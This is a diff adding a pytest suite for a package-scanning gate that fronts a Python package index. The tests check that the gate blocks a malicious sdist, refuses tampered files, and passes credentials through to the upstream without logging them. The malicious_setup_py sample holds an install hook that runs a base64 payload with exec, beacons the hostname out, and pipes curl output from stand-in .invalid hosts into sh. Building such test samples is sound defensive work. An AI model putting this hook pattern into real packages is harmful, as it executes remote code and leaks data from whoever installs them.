@@ -1,0 +1,704 @@
+"""``distscan serve`` end to end: a real upstream index on loopback, the gate (uvicorn) in front
+of it, and real ``pip install`` / ``uv pip install`` runs through the gate.
+
+Nothing here leaves 127.0.0.1. The malicious sample is an sdist whose setup.py would write a
+marker file if it ran (its network calls go to ``.invalid`` hosts); the tests check that the
+marker never appears. The sample is never built or run by the tests themselves.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import contextlib
+import hashlib
+import json
+import logging
+import os
+import shutil
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field, replace
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import httpx
+import pytest
+import uvicorn
+
+from scanner.analyzers import Analyzer, registered
+from scanner.gate import GateConfig, create_app
+from scanner.model import Confidence, Context, Finding, Severity, VerdictLevel
+from scanner.pipeline import ScanOptions, scan
+from scanner.testing import core_metadata, sdist_bytes, sdist_filename, wheel_bytes, wheel_filename
+
+MARKER_ENV = "DISTSCAN_GATE_MARKER"
+JSON_V1 = "application/vnd.pypi.simple.v1+json"
+PIP_ACCEPT = f"{JSON_V1}, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"
+
+
+# -- samples -----------------------------------------------------------------------------------
+
+def malicious_setup_py() -> str:
+    """An install hook of the kind the Python analyser must call malicious: a base64 payload
+    executed at install time that writes a file, beacons and pipes a download into a shell.
+    Defanged: every host is under .invalid; the marker path comes from the environment."""
+    payload = (
+        "import os, urllib.request\n"
+        f"open(os.environ.get({MARKER_ENV!r}, '/tmp/distscan-gate-marker'), 'w').write('ran')\n"
+        "urllib.request.urlopen('http://collector.invalid/beacon?h=' + os.uname().nodename)\n"
+        "os.system('curl -s http://collector.invalid/stage2.sh | sh')\n"
+    )
+    encoded = base64.b64encode(payload.encode()).decode()
+    return ("import base64, os\n"
+            "from setuptools import setup\n"
+            f"exec(base64.b64decode({encoded!r}))\n"
+            "os.system('curl -s http://collector.invalid/p.sh | sh')\n"
+            "setup(name='evilpkg', version='2.0', packages=['evilpkg'])\n")
+
+
+@dataclass
+class Dist:
+    project: str
+    filename: str
+    data: bytes
+    requires_python: str | None = None
+    yanked: bool | str = False
+    metadata: bytes | None = None  # PEP 658 file
+    upload_time: str = "2024-01-02T03:04:05.000000Z"
+    tamper: bool = False  # serve other bytes than the published hash
+    delay_s: float = 0.0  # the upstream waits this long before sending the file
+
+    @property
+    def sha256(self) -> str:
+        return hashlib.sha256(self.data).hexdigest()
+
+
+def _wheel(name: str, version: str, body: str, **kw) -> Dist:
+    module = name.replace("-", "_")
+    data = wheel_bytes(name, version, {f"{module}/__init__.py": body})
+    return Dist(name, wheel_filename(name, version), data,
+                metadata=core_metadata(name, version).encode(), **kw)
+
+
+def sample_dists() -> list[Dist]:
+    evil = sdist_bytes("evilpkg", "2.0", {"setup.py": malicious_setup_py(),
+                                          "evilpkg/__init__.py": "VERSION = '2.0'\n"})
+    recent = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 600))
+    return [
+        _wheel("demo-pkg", "1.0", "VERSION = '1.0'\n", requires_python=">=3.8"),
+        _wheel("demo-pkg", "1.1", "VERSION = '1.1'\n", requires_python=">=3.8, <4"),
+        _wheel("demo-pkg", "0.9", "VERSION = '0.9'\n", yanked="broken build"),
+        _wheel("evilpkg", "1.0", "VERSION = '1.0'\n"),
+        Dist("evilpkg", sdist_filename("evilpkg", "2.0"), evil),
+        _wheel("tampered", "1.0", "VERSION = 'published'\n", tamper=True),
+        _wheel("freshpkg", "1.0", "VERSION = '1.0'\n"),
+        _wheel("freshpkg", "2.0", "VERSION = '2.0'\n", upload_time=recent),
+        # A zip signature with nothing readable behind it: the scanner's verdict is `error`.
+        Dist("broken", "broken-1.0-py3-none-any.whl", b"PK\x03\x04" + b"garbage" * 20),
+        _wheel("racy", "1.0", "VERSION = 'racy'\n", delay_s=0.5),
+    ]
+
+
+# A stand-in for the Python analyser (ids python.*), so that the gate's blocking is tested
+# whatever state that analyser is in: an install hook that execs a base64 payload.
+def _exec_b64_install_hook(view):
+    for path, data in view.texts.items():
+        if path.endswith("setup.py") and b"exec(base64.b64decode(" in data:
+            yield Finding("test.install.exec-b64", "execution", Severity.CRITICAL,
+                          Confidence.HIGH, Context.INSTALL,
+                          "setup.py executes a base64-decoded payload at install time", path, 3,
+                          "exec(base64.b64decode(...))")
+
+
+STAND_IN = Analyzer("test-stand-in", on_artifact=_exec_b64_install_hook)
+
+
+# -- the upstream: a static PEP 503/691 index on loopback ------------------------------------
+
+@dataclass
+class Upstream:
+    dists: list[Dist]
+    credentials: tuple[str, str] | None = None
+    requests: list[tuple[str, str, str]] = field(default_factory=list)  # method, path, auth
+    server: ThreadingHTTPServer | None = None
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server.server_address[1]}/simple/"
+
+    def downloads(self, filename: str) -> int:
+        return sum(1 for _, path, _ in self.requests if path == f"/files/{filename}")
+
+    def project_json(self, project: str) -> dict:
+        base = f"http://127.0.0.1:{self.server.server_address[1]}"
+        files = []
+        for d in self.dists:
+            if d.project != project:
+                continue
+            item = {"filename": d.filename, "url": f"{base}/files/{d.filename}",
+                    "hashes": {"sha256": d.sha256}, "size": len(d.data),
+                    "upload-time": d.upload_time}
+            if d.requires_python:
+                item["requires-python"] = d.requires_python
+            if d.yanked:
+                item["yanked"] = d.yanked
+            if d.metadata is not None:
+                item["core-metadata"] = {"sha256": hashlib.sha256(d.metadata).hexdigest()}
+            files.append(item)
+        versions = sorted({f["filename"].split("-")[1].removesuffix(".tar.gz") for f in files})
+        return {"meta": {"api-version": "1.1"}, "name": project, "files": files,
+                "versions": versions}
+
+    def project_html(self, project: str) -> str:
+        rows = []
+        for d in self.dists:
+            if d.project != project:
+                continue
+            attrs = f'href="../../files/{d.filename}#sha256={d.sha256}"'
+            if d.requires_python:
+                attrs += f' data-requires-python="{d.requires_python.replace(">", "&gt;")}"'
+            if d.yanked:
+                attrs += f' data-yanked="{d.yanked if isinstance(d.yanked, str) else ""}"'
+            if d.metadata is not None:
+                attrs += f' data-core-metadata="sha256={hashlib.sha256(d.metadata).hexdigest()}"'
+            rows.append(f"<a {attrs}>{d.filename}</a><br/>")
+        return "<!DOCTYPE html><html><body>" + "\n".join(rows) + "</body></html>"
+
+
+def _handler(upstream: Upstream):
+    class Handler(BaseHTTPRequestHandler):
+        def log_message(self, *args):  # keep test output quiet
+            pass
+
+        def do_GET(self):
+            auth = self.headers.get("Authorization", "")
+            upstream.requests.append(("GET", self.path, auth))
+            if upstream.credentials:
+                expected = "Basic " + base64.b64encode(
+                    ":".join(upstream.credentials).encode()).decode()
+                if auth != expected:
+                    return self._send(401, "text/plain", b"auth required")
+            path = self.path.split("?", 1)[0]
+            projects = {d.project for d in upstream.dists}
+            if path == "/simple/":
+                body = json.dumps({"meta": {"api-version": "1.0"},
+                                   "projects": [{"name": p} for p in sorted(projects)]})
+                return self._send(200, JSON_V1, body.encode())
+            if path.startswith("/simple/"):
+                project = path[len("/simple/"):].strip("/")
+                if project not in projects:
+                    return self._send(404, "text/plain", b"no such project")
+                if "json" in self.headers.get("Accept", ""):
+                    body = json.dumps(upstream.project_json(project)).encode()
+                    return self._send(200, JSON_V1, body)
+                return self._send(200, "text/html", upstream.project_html(project).encode())
+            if path.startswith("/files/"):
+                name = path[len("/files/"):]
+                for d in upstream.dists:
+                    if name == d.filename:
+                        time.sleep(d.delay_s)
+                        data = d.data + b"tampered" if d.tamper else d.data
+                        return self._send(200, "application/octet-stream", data)
+                    if name == d.filename + ".metadata" and d.metadata is not None:
+                        return self._send(200, "application/octet-stream", d.metadata)
+            return self._send(404, "text/plain", b"not found")
+
+        def _send(self, status, content_type, body):
+            self.send_response(status)
+            self.send_header("Content-Type", content_type)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    return Handler
+
+
+@contextlib.contextmanager
+def running_upstream(dists: list[Dist], credentials=None) -> Iterator[Upstream]:
+    upstream = Upstream(dists, credentials)
+    upstream.server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(upstream))
+    thread = threading.Thread(target=upstream.server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield upstream
+    finally:
+        upstream.server.shutdown()
+        upstream.server.server_close()
+
+
+# -- the gate: uvicorn in a thread on an ephemeral loopback port ------------------------------
+
+@dataclass
+class RunningGate:
+    server: uvicorn.Server
+    app: object
+
+    @property
+    def url(self) -> str:
+        port = self.server.servers[0].sockets[0].getsockname()[1]
+        return f"http://127.0.0.1:{port}"
+
+    @property
+    def index_url(self) -> str:
+        return self.url + "/simple/"
+
+    @property
+    def gate(self):
+        return self.app.state.gate
+
+
+@contextlib.contextmanager
+def running_gate(config: GateConfig) -> Iterator[RunningGate]:
+    app = create_app(config)
+    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning",
+                                           lifespan="on", access_log=False))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 20
+    while not server.started:
+        if not thread.is_alive() or time.monotonic() > deadline:
+            raise RuntimeError("the gate did not start")
+        time.sleep(0.02)
+    try:
+        yield RunningGate(server, app)
+    finally:
+        server.should_exit = True
+        thread.join(20)
+
+
+def stand_in_config(index: Upstream, db: Path, **changes) -> GateConfig:
+    options = ScanOptions(analyzers=(*registered(), STAND_IN))
+    config = GateConfig(upstream=index.url, db_path=db, executor="thread", workers=2,
+                        scan_timeout_s=30, operator_token="op-token", scan_options=options,
+                        prescan_wait_s=10, cooldown_hours=24)
+    return replace(config, **changes)
+
+
+@pytest.fixture(scope="module")
+def upstream() -> Iterator[Upstream]:
+    with running_upstream(sample_dists()) as up:
+        yield up
+
+
+@pytest.fixture(scope="module")
+def gate(upstream, tmp_path_factory) -> Iterator[RunningGate]:
+    db = tmp_path_factory.mktemp("gate") / "verdicts.sqlite3"
+    with running_gate(stand_in_config(upstream, db)) as running:
+        yield running
+
+
+# -- installers --------------------------------------------------------------------------------
+
+def _clean_env(tmp: Path) -> dict[str, str]:
+    """The environment for pip/uv: no user config, no cache, no proxies, no extra indexes
+    or find-links, so that the only place they can reach is the gate on loopback."""
+    env = {k: v for k, v in os.environ.items()
+           if not k.upper().startswith(("PIP_", "UV_", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"))}
+    env.update({"PIP_NO_CACHE_DIR": "1", "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INPUT": "1",
+                "PIP_DISABLE_PIP_VERSION_CHECK": "1", "UV_NO_CACHE": "1", "UV_NO_CONFIG": "1",
+                "UV_PYTHON_DOWNLOADS": "never", "NO_PROXY": "127.0.0.1,localhost",
+                MARKER_ENV: str(tmp / "marker")})
+    return env
+
+
+def pip_install(index_url: str, tmp: Path, *requirements: str) -> subprocess.CompletedProcess:
+    target = tmp / "pip-target"
+    command = [sys.executable, "-m", "pip", "install", "--no-deps", "--no-build-isolation",
+               "--retries", "0", "--timeout", "30", "--target", str(target),
+               "--index-url", index_url, *requirements]
+    return subprocess.run(command, env=_clean_env(tmp), capture_output=True, text=True,
+                          timeout=120)
+
+
+def uv_binary() -> str:
+    try:
+        import uv
+
+        return uv.find_uv_bin()
+    except (ImportError, FileNotFoundError):
+        found = shutil.which("uv")
+        if not found:
+            pytest.skip("uv is not installed (pip install uv; it is in the test extra)")
+        return found
+
+
+def uv_install(index_url: str, tmp: Path, *requirements: str) -> subprocess.CompletedProcess:
+    target = tmp / "uv-target"
+    command = [uv_binary(), "pip", "install", "--no-deps", "--no-build-isolation",
+               "--python", sys.executable, "--target", str(target),
+               "--index-url", index_url, *requirements]
+    return subprocess.run(command, env=_clean_env(tmp), capture_output=True, text=True,
+                          timeout=120)
+
+
+INSTALLERS = {"pip": pip_install, "uv": uv_install}
+
+
+def installed_version(tmp: Path, installer: str, module: str) -> str:
+    init = tmp / f"{installer}-target" / module / "__init__.py"
+    return init.read_text().split("'")[1]
+
+
+# -- tests -------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("installer", ["pip", "uv"])
+def test_benign_package_installs_through_the_gate(gate, tmp_path, installer):
+    result = INSTALLERS[installer](gate.index_url, tmp_path, "demo-pkg")
+    assert result.returncode == 0, result.stdout + result.stderr
+    # The newest non-yanked version, its bytes untouched (the wheel's RECORD checked by pip).
+    assert installed_version(tmp_path, installer, "demo_pkg") == "1.1"
+
+
+@pytest.mark.parametrize("installer", ["pip", "uv"])
+def test_malicious_newest_version_disappears_and_installers_pick_the_older_clean_one(
+        gate, tmp_path, installer):
+    result = INSTALLERS[installer](gate.index_url, tmp_path, "evilpkg")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert installed_version(tmp_path, installer, "evilpkg") == "1.0"
+    assert not (tmp_path / "marker").exists()
+
+    page = httpx.get(gate.index_url + "evilpkg/", headers={"Accept": JSON_V1}).json()
+    assert [f["filename"] for f in page["files"]] == ["evilpkg-1.0-py3-none-any.whl"]
+    refused = httpx.get(gate.url + "/files/evilpkg/evilpkg-2.0.tar.gz")
+    assert refused.status_code == 403
+    assert "test.install.exec-b64" in refused.text and "malicious" in refused.text
+
+
+@pytest.mark.parametrize("installer", ["pip", "uv"])
+def test_pinned_malicious_version_fails_before_any_of_its_code_runs(gate, tmp_path, installer):
+    result = INSTALLERS[installer](gate.index_url, tmp_path, "evilpkg==2.0")
+    assert result.returncode != 0
+    output = result.stdout + result.stderr
+    # Refused at resolution: the version is not on the page, so nothing was downloaded.
+    assert "No matching distribution found for evilpkg==2.0" in output or \
+        "there is no version of evilpkg==2.0" in output, output
+    assert not (tmp_path / "marker").exists()
+    assert not (tmp_path / f"{installer}-target" / "evilpkg").exists()
+
+
+def test_file_that_was_not_prescanned_is_refused_at_download(upstream, tmp_path):
+    """With page prescans off, pip sees the malicious version, asks for it, and gets a 403
+    before a byte of it is sent: the install fails and the hook never runs."""
+    config = stand_in_config(upstream, tmp_path / "v.sqlite3", prescan_versions=0)
+    with running_gate(config) as running:
+        page = httpx.get(running.index_url + "evilpkg/", headers={"Accept": JSON_V1}).json()
+        assert "evilpkg-2.0.tar.gz" in {f["filename"] for f in page["files"]}
+        result = pip_install(running.index_url, tmp_path, "evilpkg==2.0")
+        assert result.returncode != 0
+        assert "403" in result.stdout + result.stderr
+        assert running.gate.metrics.value("distscan_gate_blocks_total", reason="malicious") >= 1
+        # Now judged: the next page no longer offers it.
+        page = httpx.get(running.index_url + "evilpkg/", headers={"Accept": JSON_V1}).json()
+        assert "evilpkg-2.0.tar.gz" not in {f["filename"] for f in page["files"]}
+    assert not (tmp_path / "marker").exists()
+    assert not (tmp_path / "pip-target" / "evilpkg").exists()
+
+
+def _file_fields(files: list[dict]) -> dict[str, tuple]:
+    return {f["filename"]: (f["hashes"], f.get("requires-python"), f.get("yanked", False),
+                            f.get("core-metadata"), f.get("size"), f.get("upload-time"))
+            for f in files}
+
+
+def test_json_page_round_trips_every_field(gate, upstream):
+    response = httpx.get(gate.index_url + "demo-pkg/", headers={"Accept": PIP_ACCEPT})
+    assert response.status_code == 200
+    assert response.headers["content-type"] == JSON_V1
+    assert "Accept" in response.headers["vary"]
+    page = response.json()
+    expected = upstream.project_json("demo-pkg")
+    assert page["meta"]["api-version"] == "1.1"
+    assert page["versions"] == expected["versions"]
+    assert _file_fields(page["files"]) == _file_fields(expected["files"])
+    assert {f["filename"]: f["dist-info-metadata"] for f in page["files"]} == \
+        {f["filename"]: f["core-metadata"] for f in expected["files"]}  # PEP 714 old key
+    for item in page["files"]:
+        assert item["url"] == f"../../files/demo-pkg/{item['filename']}"  # through the gate
+
+
+def test_html_page_round_trips_every_field(gate, upstream):
+    from scanner.gate.simple import parse_project_page
+
+    response = httpx.get(gate.index_url + "demo-pkg/", headers={"Accept": "text/html"})
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("text/html")
+    assert "Accept" in response.headers["vary"]
+    assert "data-requires-python=\"&gt;=3.8, &lt;4\"" in response.text
+    parsed = parse_project_page(response.content, "text/html", gate.index_url + "demo-pkg/",
+                                "demo-pkg")
+    expected = {d.filename: d for d in upstream.dists if d.project == "demo-pkg"}
+    assert {f.filename for f in parsed.files} == set(expected)
+    for f in parsed.files:
+        dist = expected[f.filename]
+        assert f.url == f"{gate.url}/files/demo-pkg/{f.filename}"
+        assert f.hashes == {"sha256": dist.sha256}
+        assert f.requires_python == dist.requires_python
+        assert f.yanked == dist.yanked
+        assert f.core_metadata == {"sha256": hashlib.sha256(dist.metadata).hexdigest()}
+
+
+def test_negotiation_redirects_and_unknown_projects(gate):
+    html = httpx.get(gate.index_url + "demo-pkg/", headers={"Accept": "*/*"})
+    assert html.headers["content-type"].startswith("text/html")
+    v1_html = httpx.get(gate.index_url + "demo-pkg/",
+                        headers={"Accept": "application/vnd.pypi.simple.v1+html"})
+    assert v1_html.headers["content-type"] == "application/vnd.pypi.simple.v1+html"
+    refused = httpx.get(gate.index_url + "demo-pkg/", headers={"Accept": "application/xml"})
+    assert refused.status_code == 406
+    moved = httpx.get(gate.index_url + "Demo_Pkg/")
+    assert moved.status_code == 301 and moved.headers["location"] == "/simple/demo-pkg/"
+    slashless = httpx.get(gate.index_url + "demo-pkg")
+    assert slashless.status_code == 301 and slashless.headers["location"] == "/simple/demo-pkg/"
+    assert httpx.get(gate.index_url + "no-such-project/").status_code == 404
+    index = httpx.get(gate.index_url, headers={"Accept": JSON_V1}).json()
+    assert {"name": "evilpkg"} in index["projects"]
+
+
+def test_metadata_files_are_byte_identical_to_upstream(gate, upstream):
+    for dist in (d for d in upstream.dists if d.project == "demo-pkg"):
+        response = httpx.get(f"{gate.url}/files/demo-pkg/{dist.filename}.metadata")
+        assert response.status_code == 200
+        assert response.content == dist.metadata
+
+
+def test_served_file_bytes_are_the_upstream_bytes(gate, upstream):
+    dist = next(d for d in upstream.dists if d.filename == "demo_pkg-1.0-py3-none-any.whl")
+    response = httpx.get(f"{gate.url}/files/demo-pkg/{dist.filename}")
+    assert response.status_code == 200
+    assert response.content == dist.data
+    assert response.headers["x-distscan-sha256"] == dist.sha256
+
+
+def test_tampered_upstream_file_is_refused(gate, upstream):
+    dist = next(d for d in upstream.dists if d.project == "tampered")
+    response = httpx.get(f"{gate.url}/files/tampered/{dist.filename}")
+    assert response.status_code == 502
+    assert "does not match its published sha256" in response.text
+    assert gate.gate.store.get(dist.sha256) is None  # nothing was judged on wrong bytes
+    tampered = hashlib.sha256(dist.data + b"tampered").hexdigest()
+    assert gate.gate.store.get(tampered) is None
+
+
+def test_files_in_cooldown_are_held_back(gate):
+    page = httpx.get(gate.index_url + "freshpkg/", headers={"Accept": JSON_V1}).json()
+    assert [f["filename"] for f in page["files"]] == ["freshpkg-1.0-py3-none-any.whl"]
+    refused = httpx.get(gate.url + "/files/freshpkg/freshpkg-2.0-py3-none-any.whl")
+    assert refused.status_code == 403 and "held back" in refused.text
+
+
+def test_unscannable_file_is_blocked_by_default(gate):
+    response = httpx.get(gate.url + "/files/broken/broken-1.0-py3-none-any.whl")
+    assert response.status_code == 403
+    assert "could not be scanned" in response.text
+
+
+def test_concurrent_requests_share_one_scan_and_later_ones_hit_the_cache(gate, upstream):
+    dist = next(d for d in upstream.dists if d.project == "racy")
+    url = f"{gate.url}/files/racy/{dist.filename}"
+    scans_before = gate.gate.scanner.scans_started
+
+    async def fetch_all():
+        async with httpx.AsyncClient(timeout=30) as client:
+            return await asyncio.gather(*(client.get(url) for _ in range(8)))
+
+    responses = asyncio.run(fetch_all())
+    assert [r.status_code for r in responses] == [200] * 8
+    assert all(r.content == dist.data for r in responses)
+    assert gate.gate.scanner.scans_started == scans_before + 1
+    # The upstream is slow for this file, so all eight arrive during one download.
+    assert upstream.downloads(dist.filename) == 1
+    cache_hits = gate.gate.metrics.total("distscan_gate_verdict_cache_hits_total")
+    assert httpx.get(url).status_code == 200
+    assert gate.gate.scanner.scans_started == scans_before + 1
+    assert gate.gate.metrics.total("distscan_gate_verdict_cache_hits_total") == cache_hits + 1
+
+
+def test_operator_endpoints(gate, upstream):
+    health = httpx.get(gate.url + "/-/health").json()
+    assert health["status"] == "ok" and health["journal_mode"] == "wal"
+    assert httpx.get(gate.url + "/-/blocked").status_code == 401
+    auth = {"Authorization": "Bearer op-token"}
+    # Make sure the malicious sdist was judged (the install tests may not have run).
+    httpx.get(gate.index_url + "evilpkg/")
+    blocked = httpx.get(gate.url + "/-/blocked", headers=auth).json()["blocked"]
+    evil = next(d for d in upstream.dists if d.filename == "evilpkg-2.0.tar.gz")
+    entry = next(b for b in blocked if b["sha256"] == evil.sha256)
+    assert entry["verdict"] == "malicious" and "test.install.exec-b64" in entry["reason"]
+
+    metrics = httpx.get(gate.url + "/-/metrics", headers=auth).text
+    assert 'distscan_gate_scans_total{verdict="malicious"}' in metrics
+    assert "distscan_gate_scan_seconds_count" in metrics
+    assert "distscan_gate_requests_total{" in metrics
+
+    body = {"sha256": evil.sha256, "reason": "reviewed: test sample"}
+    assert httpx.post(gate.url + "/-/allow", json=body).status_code == 401
+    assert httpx.post(gate.url + "/-/allow", json=body,
+                      headers={"Authorization": "Bearer wrong"}).status_code == 401
+    bad = httpx.post(gate.url + "/-/allow", json={"sha256": "zz", "reason": "x"}, headers=auth)
+    assert bad.status_code == 400
+    try:
+        assert httpx.post(gate.url + "/-/allow", json=body, headers=auth).status_code == 200
+        served = httpx.get(gate.url + "/files/evilpkg/evilpkg-2.0.tar.gz")
+        assert served.status_code == 200 and served.content == evil.data
+        blocked = httpx.get(gate.url + "/-/blocked", headers=auth).json()["blocked"]
+        assert evil.sha256 not in {b["sha256"] for b in blocked}
+    finally:  # other tests in this module expect the sample blocked
+        gate.gate.store._db.execute("DELETE FROM allows WHERE sha256 = ?", (evil.sha256,))
+
+
+def test_verdicts_survive_a_restart_and_are_not_rescanned(tmp_path):
+    db = tmp_path / "verdicts.sqlite3"
+    with running_upstream(sample_dists()) as upstream:
+        evil = next(d for d in upstream.dists if d.filename == "evilpkg-2.0.tar.gz")
+        with running_gate(stand_in_config(upstream, db)) as first:
+            assert httpx.get(first.url + "/files/evilpkg/evilpkg-2.0.tar.gz").status_code == 403
+            assert first.gate.scanner.scans_started == 1
+        downloads = upstream.downloads(evil.filename)
+        with running_gate(stand_in_config(upstream, db)) as second:
+            page = httpx.get(second.index_url + "evilpkg/", headers={"Accept": JSON_V1}).json()
+            assert "evilpkg-2.0.tar.gz" not in {f["filename"] for f in page["files"]}
+            refused = httpx.get(second.url + "/files/evilpkg/evilpkg-2.0.tar.gz")
+            assert refused.status_code == 403
+            # Known from the store: no scan, and the blocked file is not even downloaded.
+            assert upstream.downloads(evil.filename) == downloads
+            scanned = second.gate.scanner.scans_started
+            assert second.gate.store.get(evil.sha256).verdict == "malicious"
+        # A different scanner configuration does not trust the old verdicts.
+        changed = stand_in_config(upstream, db, block_suspicious=True,
+                                  scan_options=ScanOptions(analyzers=(STAND_IN,)))
+        with running_gate(changed) as third:
+            assert third.gate.store.get(evil.sha256) is None
+    assert scanned <= 2  # evilpkg 1.0 was prescanned for the page, 2.0 was not rescanned
+
+
+def test_upstream_credentials_are_passed_on_and_never_logged(tmp_path, caplog):
+    secret = "s3cr3t-pa55"
+    dists = [d for d in sample_dists() if d.project == "demo-pkg"]
+    caplog.set_level(logging.DEBUG)
+    with running_upstream(dists, credentials=("alice", secret)) as upstream:
+        port = upstream.server.server_address[1]
+        config = stand_in_config(upstream, tmp_path / "v.sqlite3",
+                                 upstream=f"http://alice:{secret}@127.0.0.1:{port}/simple/")
+        with running_gate(config) as running:
+            ok = httpx.get(running.url + "/files/demo-pkg/demo_pkg-1.1-py3-none-any.whl")
+            assert ok.status_code == 200
+            assert httpx.get(running.index_url + "demo-pkg/").status_code == 200
+        expected = "Basic " + base64.b64encode(f"alice:{secret}".encode()).decode()
+        assert upstream.requests and all(auth == expected for _, _, auth in upstream.requests)
+        wrong = stand_in_config(upstream, tmp_path / "w.sqlite3",
+                                upstream=f"http://alice:bad-{secret}@127.0.0.1:{port}/simple/")
+        with running_gate(wrong) as running:
+            response = httpx.get(running.index_url + "demo-pkg/")
+            assert response.status_code == 502 and secret not in response.text
+    assert secret not in caplog.text
+
+
+def test_fail_open_lets_unscannable_files_through(tmp_path):
+    dists = [d for d in sample_dists() if d.project == "broken"]
+    with running_upstream(dists) as upstream:
+        config = stand_in_config(upstream, tmp_path / "v.sqlite3", block_errors=False)
+        with running_gate(config) as running:
+            response = httpx.get(running.url + "/files/broken/broken-1.0-py3-none-any.whl")
+            assert response.status_code == 200 and response.content == dists[0].data
+
+
+def test_real_scanner_in_worker_processes_blocks_the_install_hook_sample(tmp_path):
+    """The default scanner (every registered analyser) in worker processes, as `distscan
+    serve` runs it. Needs the Python analyser to call the sample malicious."""
+    evil = next(d for d in sample_dists() if d.filename == "evilpkg-2.0.tar.gz")
+    result = scan(evil.data, filename=evil.filename)
+    if result.verdict.level is not VerdictLevel.MALICIOUS:
+        pytest.skip(f"the registered analysers call the install-hook sample "
+                    f"{result.verdict.level.value}, not malicious (is the Python analyser "
+                    f"registered yet?)")
+    with running_upstream(sample_dists()) as upstream:
+        config = GateConfig(upstream=upstream.url, db_path=tmp_path / "v.sqlite3",
+                            scan_timeout_s=60)
+        with running_gate(config) as running:
+            installed = pip_install(running.index_url, tmp_path, "evilpkg")
+            assert installed.returncode == 0, installed.stdout + installed.stderr
+            assert installed_version(tmp_path, "pip", "evilpkg") == "1.0"
+            refused = httpx.get(running.url + "/files/evilpkg/evilpkg-2.0.tar.gz")
+            assert refused.status_code == 403
+            assert any(rule.startswith("python.") for rule in
+                       running.gate.store.get(evil.sha256).rules) or "python." in refused.text
+    assert not (tmp_path / "marker").exists()
+
+
+# -- a real third-party index: pypiserver (HTML only), the default gate (worker processes) ----
+
+@contextlib.contextmanager
+def running_pypiserver(root: Path) -> Iterator[str]:
+    pypiserver = pytest.importorskip("pypiserver", reason="pypiserver is in the test extra")
+    from socketserver import ThreadingMixIn
+    from wsgiref.simple_server import WSGIRequestHandler, WSGIServer, make_server
+
+    class Server(ThreadingMixIn, WSGIServer):
+        daemon_threads = True
+
+    class QuietHandler(WSGIRequestHandler):
+        def log_message(self, *args):
+            pass
+
+    app = pypiserver.app(roots=[str(root)], authenticate=[], password_file=".")
+    server = make_server("127.0.0.1", 0, app, server_class=Server, handler_class=QuietHandler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/simple/"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def corpus_artifacts(out: Path) -> list[Path]:
+    """The repository's corpus samples built into archives (nothing is run), if present."""
+    build = Path(__file__).resolve().parent.parent / "corpus" / "build.py"
+    if not build.is_file():
+        return []
+    done = subprocess.run([sys.executable, str(build), str(out)], capture_output=True,
+                          text=True, timeout=120)
+    if done.returncode != 0:
+        return []
+    return sorted(p for p in out.rglob("*") if p.suffix in (".whl", ".gz", ".zip"))
+
+
+def test_default_gate_in_front_of_pypiserver(tmp_path):
+    root = tmp_path / "packages"
+    root.mkdir()
+    for dist in sample_dists():
+        if dist.project in ("demo-pkg", "evilpkg"):
+            (root / dist.filename).write_bytes(dist.data)
+    corpus = corpus_artifacts(tmp_path / "corpus")
+    for artifact in corpus:
+        shutil.copy(artifact, root / artifact.name)
+    with running_pypiserver(root) as index:
+        config = GateConfig(upstream=index, db_path=tmp_path / "v.sqlite3", scan_timeout_s=60)
+        assert config.executor == "process" and config.block_errors
+        with running_gate(config) as running:
+            installed = pip_install(running.index_url, tmp_path, "demo-pkg")
+            assert installed.returncode == 0, installed.stdout + installed.stderr
+            assert installed_version(tmp_path, "pip", "demo_pkg") == "1.1"
+            # pypiserver speaks HTML only; the gate still answers PEP 691 JSON, at api 1.0
+            # since HTML carries no sizes (PEP 700 makes them required from 1.1).
+            page = httpx.get(running.index_url + "demo-pkg/", headers={"Accept": PIP_ACCEPT})
+            assert page.json()["meta"]["api-version"] == "1.0"
+            assert {f["filename"]: f["hashes"]["sha256"] for f in page.json()["files"]} == {
+                d.filename: d.sha256 for d in sample_dists() if d.project == "demo-pkg"}
+            # Every corpus artifact gets what the scanner says of it, and clean bytes unchanged.
+            for artifact in corpus:
+                expected = scan(artifact, filename=artifact.name).verdict.level
+                project = artifact.name.split("-")[0]
+                response = httpx.get(f"{running.url}/files/{project}/{artifact.name}",
+                                     timeout=60)
+                if expected is VerdictLevel.MALICIOUS:
+                    assert response.status_code == 403, artifact.name
+                elif expected in (VerdictLevel.CLEAN, VerdictLevel.SUSPICIOUS):
+                    assert response.status_code == 200, (artifact.name, response.text)
+                    assert response.content == artifact.read_bytes()
+            assert running.gate.scanner.scans_started >= 1
+    assert not (tmp_path / "marker").exists()
